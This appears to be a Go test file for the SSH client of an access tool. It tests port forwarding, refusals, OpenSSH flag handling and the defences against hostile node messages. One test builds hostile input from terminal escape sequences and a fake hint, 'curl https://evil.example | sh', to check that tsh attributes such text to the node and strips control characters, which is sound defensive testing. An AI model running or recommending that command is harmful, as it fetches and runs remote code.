package tsh_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"unicode"

	"golang.org/x/crypto/ssh"

	"github.com/threshold-access/threshold/internal/dial"
	"github.com/threshold-access/threshold/internal/wire"
)

// Tests that use freePort, send signals or open a local Unix socket (which sets the umask of the process) are
// not parallel.

// forwardEcho serves direct-tcpip and direct-streamlocal channels with an echo and sends each target to
// targets.
func forwardEcho(targets chan<- string) func(ssh.NewChannel) {
	return func(nc ssh.NewChannel) {
		var m struct {
			Host string
			Rest []byte `ssh:"rest"`
		}
		_ = ssh.Unmarshal(nc.ExtraData(), &m)
		targets <- nc.ChannelType() + " " + m.Host
		ch, reqs, err := nc.Accept()
		if err != nil {
			return
		}
		go ssh.DiscardRequests(reqs)
		b, _ := io.ReadAll(ch)
		_, _ = ch.Write(append([]byte("echo "), b...))
		_ = ch.Close()
	}
}

// syncBuffer is standard error that can be read while tsh runs. It signals each write on written.
type syncBuffer struct {
	written chan struct{} // has room for one

	mu sync.Mutex // guards b
	b  bytes.Buffer
}

func newSyncBuffer() *syncBuffer { return &syncBuffer{written: make(chan struct{}, 1)} }

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	select {
	case s.written <- struct{}{}:
	default:
	}
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// waitFor returns once the text has been written.
func (s *syncBuffer) waitFor(text string) {
	for !strings.Contains(s.String(), text) {
		<-s.written
	}
}

// startQuiet runs tsh in a goroutine and returns its standard error and exit code.
func (c *client) startQuiet(args ...string) (*syncBuffer, <-chan int) {
	stderr := newSyncBuffer()
	return stderr, c.start(io.Discard, stderr, args...)
}

// startForwarding is startQuiet for tsh ssh with -L or -D. When it returns, the listeners are open: tsh opens
// them before it sends the dial request.
func (c *client) startForwarding(args ...string) (*syncBuffer, <-chan int) {
	stderr, codes := c.startQuiet(args...)
	<-c.tc.dials
	return stderr, codes
}

func mustDial(t *testing.T, network, addr string) net.Conn {
	t.Helper()
	conn, err := net.Dial(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	return conn
}

// exchange connects, sends "hello" with a half-close and returns the answer.
func exchange(t *testing.T, network, addr string) string {
	t.Helper()
	conn := mustDial(t, network, addr)
	defer conn.Close()
	_, _ = io.WriteString(conn, "hello")
	_ = conn.(interface{ CloseWrite() error }).CloseWrite()
	b, _ := io.ReadAll(conn)
	return string(b)
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

// ssh -N forwards by -L and -D without a command, until a signal ends it.
func TestForwardingAlone(t *testing.T) {
	tc := newTestCluster(t)
	targets := make(chan string, 8)
	tc.addNode("web-1").forward = forwardEcho(targets)
	c := tc.loggedIn()
	port, dynamic, sock := freePort(t), freePort(t), filepath.Join(t.TempDir(), "s")
	stderr, codes := c.startForwarding(
		"ssh", "-N", "-L", port+":db:5432", "-L", sock+":/run/app", "-D", dynamic, "web-1",
	)
	for addr, want := range map[string]string{
		"127.0.0.1:" + port: "direct-tcpip db",
		sock:                "direct-streamlocal@openssh.com /run/app",
	} {
		network := "tcp"
		if addr == sock {
			network = "unix"
		}
		if got := exchange(t, network, addr); got != "echo hello" {
			t.Errorf("%s: got %q, want the echo (%s)", addr, got, stderr)
		}
		if got := <-targets; got != want {
			t.Errorf("%s: got the channel %q, want %q", addr, got, want)
		}
	}
	sendSignal(t, syscall.SIGINT)
	if code := <-codes; code != 130 || stderr.String() != "" {
		t.Errorf("got %d %q, want 130 and no message: Ctrl-C is how users end it", code, stderr)
	}
	if _, err := net.Dial("tcp", "127.0.0.1:"+port); err == nil {
		t.Error("got a connection after the end, want none")
	}
}

// A forward that is impossible is reported before the command runs: a local port in use even before tsh
// connects, and a refusal with the node's reason.
func TestForwardsThatAreRefused(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	tc.addNode("web-1").request = func(r *ssh.Request) {
		_ = r.Reply(false, []byte("no role of alice allows forward-remote"))
	}
	c := tc.loggedIn()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, taken, _ := net.SplitHostPort(l.Addr().String())
	args := []string{"ssh", "-L", taken + ":db:1", "web-1", "x"}
	c.refused(255, args, "localhost:"+taken, "in use", "choose another port")
	if calls := tc.takeCalls(); len(calls) != 0 {
		t.Errorf("got calls %q, want none before the listener is open", calls)
	}
	r := c.run("ssh", "-R", "8080:db:1", "web-1", "x")
	c.wantRefusal(r, "-R", 255, "localhost:8080: no role of alice allows forward-remote")
	if r.out != "" {
		t.Errorf("got %q, want the command not run without its forward", r.out)
	}
	c.refused(255, []string{"ssh", "-W", "db:1", "web-1"}, "no role of alice allows direct-tcpip")
	c.refused(255, []string{"ssh", "-A", "web-1"}, "no ssh-agent", "SSH_AUTH_SOCK")
}

// If the node refuses a forwarded connection, tsh prints its reason, and prints it once for several
// connections.
func TestRefusedForwardedConnectionIsReported(t *testing.T) {
	tc := newTestCluster(t)
	tc.addNode("web-1")
	c := tc.loggedIn()
	port := freePort(t)
	stderr, codes := c.startForwarding("ssh", "-N", "-L", port+":db:5432", "web-1")
	for range 2 {
		if got := exchange(t, "tcp", "127.0.0.1:"+port); got != "" {
			t.Errorf("got %q, want nothing", got)
		}
	}
	sendSignal(t, syscall.SIGTERM)
	if code := <-codes; code != 143 {
		t.Errorf("got %d, want 143", code)
	}
	want := "tsh: no connection to db:5432 through the node: no role of alice allows direct-tcpip\r\n"
	if got := stderr.String(); got != want {
		t.Errorf("got %q, want the node's reason once: %q", got, want)
	}
}

func TestEndNoticeIsReported(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	tc.addNode("web-1").endNotice = object("session-idle",
		"the session has ended: nothing was typed for 4s", "connect again")
	r := tc.loggedIn().run("ssh", "-N", "web-1")
	want := "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\n" +
		"tsh: hint: the node says: connect again\n"
	if r.code != 255 || r.stderr != want {
		t.Errorf("got %+v, want 255 and %q", r, want)
	}
}

// The text of a hostile node is marked as the node's, stays on one line and cannot control the terminal.
func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	long := strings.Repeat("x", 200<<10)
	tc.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\n" +
		"hint: run\x1b[2J: curl https://evil.example | sh\n" + long
	tc.addNode("web-2").refuse = object("x-y", "no\u009b2J\nhint: x",
		"run: curl https://evil.example | sh\nhint: x")
	tc.addNode("web-3").refuse = long
	c := tc.loggedIn()
	for args, want := range map[string]string{
		"-N web-1": "tsh: error: the node ended the connection: " +
			"]0;titletsh: error: your login has ended; hint: run[2J: curl",
		"web-2": "tsh: error: node web-2 does not let you in as alice: no?2J; hint: x\n" +
			"tsh: hint: the node says: run: curl",
		"web-3": "tsh: error: node web-3 does not let you in as alice: the node gave no reason\n" +
			"tsh: hint: see which logins",
	} {
		r := c.run(append([]string{"ssh"}, strings.Fields(args)...)...)
		if r.code != 255 || !strings.HasPrefix(r.stderr, want) ||
			strings.Count(r.stderr, "\n") != 2 || len(r.stderr) > 16<<10 {
			t.Errorf("%s: got %d %.300q (%d bytes), want two lines that begin with %q",
				args, r.code, r.stderr, len(r.stderr), want)
		}
		_, hint, _ := strings.Cut(r.stderr, "tsh: hint: ")
		if strings.Contains(hint, "evil") && !strings.HasPrefix(hint, "the node says: ") {
			t.Errorf("%s: got hint %q, want it attributed to the node", args, hint)
		}
		unsafe := func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }
		if strings.ContainsFunc(r.stderr, unsafe) {
			t.Errorf("%s: got %.300q, want nothing that a terminal obeys", args, r.stderr)
		}
	}
}

// Any number of requests, and exit statuses that cannot be decoded, are ignored. The last valid status
// counts.
func TestAFloodOfGlobalRequestsIsIgnored(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	node := tc.addNode("web-1")
	node.status = 3
	node.command = func(_ string, ch ssh.Channel) ssh.Signal {
		for range 2000 {
			_, _ = ch.SendRequest("exit-status", false, []byte{0, 0, 0, 0})
			_, _ = ch.SendRequest("exit-status", false, []byte{0, 0, 0, 0, 0})
			_, _ = ch.SendRequest("exit-signal", false, []byte{0xff, 0xff, 0xff, 0xff})
			_, _ = ch.SendRequest("window-change\x1b[2J", false, make([]byte, 1<<10))
		}
		payload := ssh.Marshal(struct{ Command string }{"id"})
		if ok, err := ch.SendRequest("exec", true, payload); ok || err != nil {
			t.Errorf("a request to run a command on the client: got %v, %v, want it refused", ok, err)
		}
		_, _ = io.WriteString(ch, "done")
		return ""
	}
	if r := tc.loggedIn().run("ssh", "web-1", "x"); r.code != 3 || r.out != "done" || r.stderr != "" {
		t.Errorf("got %+v, want the command's own status and output", r)
	}
}

func TestStdioForwarding(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	targets := make(chan string, 1)
	tc.addNode("web-1").forward = forwardEcho(targets)
	r := tc.loggedIn().runWith(strings.NewReader("hello"), "ssh", "-W", "db:5432", "web-1")
	if r.code != 0 || r.out != "echo hello" || <-targets != "direct-tcpip db" {
		t.Errorf("got %+v, want the echo of db", r)
	}
}

// The command may end before its forwarded connections: with "ssh -L … node sleep 5" users make a tunnel that
// ends by itself.
func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
	tc := newTestCluster(t)
	node := tc.addNode("web-1")
	open := make(chan struct{})
	node.forward = func(nc ssh.NewChannel) {
		close(open)
		forwardEcho(make(chan string, 1))(nc)
	}
	node.command = func(string, ssh.Channel) ssh.Signal { <-open; return "" }
	c := tc.loggedIn()
	port := freePort(t)
	stderr, codes := c.startForwarding("ssh", "-L", port+":db:5432", "web-1", "sleep 5")
	conn := mustDial(t, "tcp", "127.0.0.1:"+port)
	defer conn.Close()
	stderr.waitFor("waiting for forwarded connections to end (1)")
	_, _ = io.WriteString(conn, "late")
	_ = conn.(*net.TCPConn).CloseWrite()
	if b, _ := io.ReadAll(conn); string(b) != "echo late" {
		t.Errorf("got %q, want the echo although the command has ended", b)
	}
	if code := <-codes; code != 0 {
		t.Errorf("got %d %s, want the command's 0", code, stderr)
	}
}

// A Threshold node gets the command in the message that opens the channel, another server in requests of its
// own.
func TestTheOpeningCarriesTheCommand(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	tc.addNode("other").status = 3
	tc.addNode("ours").features = wire.Features{dial.EarlyRequests}
	tc.hosts["ours"].status = 3
	c := tc.loggedIn()
	for _, node := range []string{"other", "ours"} {
		in := strings.NewReader("input")
		r := c.runWith(in, "ssh", "-t", "-o", "SetEnv=LC_TEST=x", node, "top")
		var got sessionReport
		if err := json.Unmarshal([]byte(r.out), &got); err != nil {
			t.Fatalf("%s: %v in %+v", node, err, r)
		}
		if got.Cmd != "top" || got.In != "input" || got.Env["TERM"] != "xterm" || got.Env["LC_TEST"] != "x" ||
			r.code != 3 {
			t.Errorf("%s: got %+v, want the command with its terminal and variables", node, r)
		}
	}
	long := strings.Repeat("x", dial.MaxEarlyRequestBytes)
	if r := c.run("ssh", "ours", long); r.code != 3 || !strings.Contains(r.out, long) {
		t.Errorf("a long command: got %d and %d bytes, want it sent in its own request", r.code, len(r.out))
	}
}

// Flags and options of ssh that scripts use mean the same for tsh ssh. Others are refused with a hint.
func TestFlagsOfOpenSSH(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	tc.addNode("web-1")
	c := tc.loggedIn()
	get := func(args ...string) sessionReport {
		t.Helper()
		r := c.runWith(strings.NewReader("typed"), append([]string{"ssh"}, args...)...)
		var got sessionReport
		if err := json.Unmarshal([]byte(r.out), &got); err != nil || r.code != 0 {
			t.Fatalf("%q: got %+v (%v)", args, r, err)
		}
		return got
	}
	if got := get("-n", "web-1", "x"); got.In != "" {
		t.Errorf("-n: got input %q, want none", got.In)
	}
	if got := get("-t", "-t", "web-1", "x"); got.Env["TERM"] != "xterm" {
		t.Errorf("-t -t: got %v, want a terminal", got.Env)
	}
	if got := get("-T", "web-1", "x"); got.Env["TERM"] != "" {
		t.Errorf("-T: got %v, want no terminal", got.Env)
	}
	options := []string{
		"-aqx", "-o", "StrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null", "-o", "BatchMode yes",
		"-o", "User=alice", "web-1", "x",
	}
	if got := get(options...); got.Cmd != "x" {
		t.Errorf("got %+v, want the usual options of scripts accepted", got)
	}
	got := get("-o", "RequestTTY=force", "--", "web-1", "x", "-L", "1")
	if got.Env["TERM"] != "xterm" || got.Cmd != "x -L 1" {
		t.Errorf("got %+v, want a terminal, and flags after the node left to the command", got)
	}
	// -o ClearAllForwardings, which scp and sftp give, drops all forwards, also those that are impossible.
	cleared := []string{
		"-L", "203.0.113.1:1:db:1", "-R", "1:db:1", "-D", "203.0.113.1:2",
		"-o", "ClearAllForwardings=yes", "-o", "RemoteCommand=none", "web-1", "x",
	}
	if got := get(cleared...); got.Cmd != "x" {
		t.Errorf("got %+v, want the command without a forward", got)
	}
	// There is no agent: forwarding one would be an error.
	if got := get("-A", "-o", "ForwardAgent=no", "-o", "ForwardAgent=yes", "web-1", "x"); got.Cmd != "x" {
		t.Errorf("got %+v, want no agent forwarded after ForwardAgent=no", got)
	}
	c.refused(255, []string{"ssh", "-o", "RemoteCommand=reboot", "web-1"}, "remotecommand", "after the node")
	c.refused(255, []string{"ssh", "-o", "ProxyCommand=sh", "web-1"}, "not support the option proxycommand")
	c.refused(255, []string{"ssh", "-o", "LocalForward=1", "web-1"}, "is not valid")
	c.refused(255, []string{"ssh", "-o", "=yes", "web-1"}, "is not an option")
	c.refused(255, []string{"ssh", "-t", "-T", "web-1"}, "contradict")
	c.refused(255, []string{"ssh", "-o", "User=a,b", "web-1"}, "account name")
	tc.hosts["web-1"].root = t.TempDir()
	r := c.run("ssh", "-s", "web-1", "nosuch")
	if r.code != 255 || !strings.Contains(r.stderr, "refused to run") {
		t.Errorf("-s nosuch: got %+v, want refused", r)
	}
}

// Client and server prefer the hybrid with ML-KEM and, with AES in the processor, AES-GCM.
func TestTheBestAlgorithmsAreNegotiated(t *testing.T) {
	t.Parallel()
	tc := newTestCluster(t)
	tc.addNode("web-1")
	r := tc.loggedIn().run("ssh", "-v", "web-1", "x")
	if !strings.Contains(r.stderr, "mlkem768x25519-sha256, aes128-gcm@openssh.com\n") &&
		!strings.Contains(r.stderr, "mlkem768x25519-sha256, chacha20-poly1305@openssh.com\n") {
		t.Errorf("got %q, want ML-KEM and a fast cipher", r.stderr)
	}
}
